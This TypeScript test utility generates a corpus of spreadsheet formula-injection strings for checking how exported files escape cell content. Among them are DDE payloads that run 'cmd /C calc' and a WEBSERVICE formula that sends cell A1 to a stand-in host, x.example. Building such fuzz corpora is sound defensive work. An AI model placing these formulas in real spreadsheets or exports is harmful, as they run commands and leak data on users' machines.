import { createHash } from 'node:crypto';

const begins = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  "'",
  "''",
  '"',
  '“',
  ' ',
  '\u3000',
  '\ufeff',
  '',
];
const middles = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.example","点我")',
  'WEBSERVICE("http://x.example/?q="&A1)',
  'DDE("cmd";"/C calc";"x")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://x.example"),"//a")',
  '1+1',
  '王',
  '86 138 0000 0000',
  'constructor',
  '__proto__',
  '_x0041_',
  '_x005F_x0041_',
  'a,b;c\td"e"\'f',
  '<b>&amp;</b>',
  ']]>',
  '😀𠮷',
  '第一行\n第二行',
];
const ends = ['', ' ', '\n', '"', "'", '=1'];

/** A text of the corpus: what a spreadsheet may run, or a file may break by. The same seed gives the same text. */
function payload(seed: number): string {
  const digest = createHash('sha256').update(String(seed)).digest();
  const pick = (list: readonly string[], i: number): string =>
    list[(digest[i] ?? 0) % list.length] ?? '';
  return (
    pick(begins, 0) +
    pick(begins, 1) +
    pick(middles, 2) +
    (digest.readUInt8(3) < 80 ? pick(middles, 4) : '') +
    pick(ends, 5)
  );
}

/** So many texts, all different: first each beginning with each middle, then combinations. */
export function payloads(count: number): string[] {
  const texts = new Set(begins.flatMap((begin) => middles.map((middle) => begin + middle)));
  for (let seed = 0; texts.size < count; seed += 1) texts.add(payload(seed));
  return [...texts].slice(0, count);
}
